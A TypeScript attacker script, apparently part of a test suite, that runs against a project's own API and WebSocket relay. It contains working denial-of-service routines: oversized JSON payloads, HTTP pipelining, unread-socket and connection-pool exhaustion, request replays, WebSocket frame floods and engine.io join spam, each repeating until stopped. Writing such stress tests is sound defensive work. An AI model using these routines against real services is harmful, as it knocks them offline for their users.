/**
 * One attacker, in a process of its own so that what it costs itself is not measured as ours:
 * `node attacker.js <attack> <target as JSON>`. Goes on, at half of the strength at which it once hurt, until SIGTERM.
 */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** Where an attack goes, and as whom. */
export interface Target {
  api: string;
  relay: string;
  /** A session with much in it, and a token that sees it. */
  session_id: string;
  token: string;
  /** A key under which a command was sent to that session before, with the command's body. */
  key: string;
  body: object;
}

const PAUSE_MS = 500;
/** Frames of one byte each: half of what one socket sent when a relay stood still. */
const FRAMES = { at_once: 2_500, every_ms: 50 };

/** Connections are made again when they are ended; nothing that comes back is read unless the attack asks for it. */
function open(url: string): Socket {
  const { hostname, port } = new URL(url);
  return connect(Number(port), hostname)
    .on('error', () => {})
    .pause();
}

/** Few bytes that once were answered with hundreds of megabytes: a long key, and thousands of faults below it. */
async function faults({ api }: Target): Promise<void> {
  const key = '~'.repeat(32_000);
  const numbers = Array(8_350).fill('0.5').join();
  const body = `{"client_info":{"${key}":[${numbers}]}}`;
  const path = `${api}/api/session/${randomUUID()}/observe`;
  const headers = { 'content-type': 'application/json' };
  const answer = await fetch(path, { method: 'POST', headers, body }).catch(() => undefined);
  await answer?.arrayBuffer().catch(() => {});
  await sleep(PAUSE_MS);
}

async function pipelining({ api }: Target): Promise<void> {
  const socket = open(api);
  socket.write('GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(700));
  await sleep(PAUSE_MS);
  socket.destroy();
}

async function unread({ api, session_id, token }: Target): Promise<void> {
  const ask = `GET /api/session/${session_id}/logs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`;
  const sockets = Array.from({ length: 30 }, () => open(api));
  for (const socket of sockets) socket.write(ask);
  await sleep(10 * PAUSE_MS);
  for (const socket of sockets) socket.destroy();
}

async function pools({ api, session_id, token }: Target): Promise<void> {
  const headers = { authorization: `Bearer ${token}` };
  const ask = async (what: string) => {
    const answer = await fetch(`${api}/api/session/${session_id}/${what}`, { headers }).catch(() => undefined);
    await answer?.arrayBuffer().catch(() => {});
  };
  await Promise.all(Array.from({ length: 45 }, (_, n) => ask(n % 2 === 0 ? 'verify' : 'logs')));
}

async function metrics({ api, relay }: Target): Promise<void> {
  const ask = async (url: string) => (await fetch(`${url}/metrics`).catch(() => undefined))?.arrayBuffer();
  await Promise.all(Array.from({ length: 32 }, (_, n) => ask(n % 2 === 0 ? api : relay).catch(() => {})));
  await sleep(50);
}

async function replays({ api, session_id, token, key, body }: Target): Promise<void> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'idempotency-key': key };
  const ask = { method: 'POST', headers, body: JSON.stringify(body) };
  const answer = await fetch(`${api}/api/session/${session_id}/log`, ask).catch(() => undefined);
  await answer?.arrayBuffer().catch(() => {});
}

const frame = (text: string) => Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0, ...Buffer.from(text, 'latin1')]);

async function upgraded({ relay, session_id, token }: Target): Promise<Socket> {
  const socket = open(relay);
  const head = ['Host: x', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
  const key = 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==';
  socket.write(`GET /live/ws/${session_id}?token=${token} HTTP/1.1\r\n${[...head, key].join('\r\n')}\r\n\r\n`);
  await sleep(PAUSE_MS);
  return socket;
}

/** As many frames as are due, to a socket that is never read, until it is closed. */
async function flood(target: Target, text: string): Promise<void> {
  const socket = await upgraded(target);
  const many = Buffer.concat(Array(FRAMES.at_once).fill(frame(text)));
  for (let n = 0; n < 100 && !socket.destroyed && socket.writable; n += 1) {
    if (!socket.write(many)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), sleep(2_000)]);
    await sleep(FRAMES.every_ms);
  }
  socket.destroy();
}

async function mute(target: Target): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: 20 }, () => upgraded(target)));
  await sleep(20 * PAUSE_MS);
  for (const socket of sockets) socket.destroy();
}

/** Many listeners on one connection of engine.io. */
async function listeners({ relay, session_id, token }: Target): Promise<void> {
  const ws = new WebSocket(`${relay.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`);
  ws.on('error', () => {});
  await Promise.race([once(ws, 'open'), once(ws, 'close'), sleep(2_000)]);
  const packet = `40/live,${JSON.stringify({ token, session_id })}`;
  for (let n = 0; n < 50 && ws.readyState === WebSocket.OPEN; n += 1) ws.send(packet);
  await sleep(2 * PAUSE_MS);
  ws.close();
}

const ATTACKS: Record<string, (target: Target) => Promise<void>> = {
  ...{ faults, pipelining, unread, pools, metrics, replays, mute, listeners },
  junk: (target) => flood(target, 'y'),
  pings: (target) => flood(target, '{"type":"PING"}'),
  states: (target) => flood(target, '{"type":"REQUEST_STATE"}'),
};

const [, , name, target] = process.argv;
const attack = ATTACKS[name!]!;
process.on('SIGTERM', () => process.exit(0));
// Whoever is attacked may end the connection at any moment: then it begins anew.
for (;;) await attack(JSON.parse(target!) as Target).catch(() => sleep(PAUSE_MS));
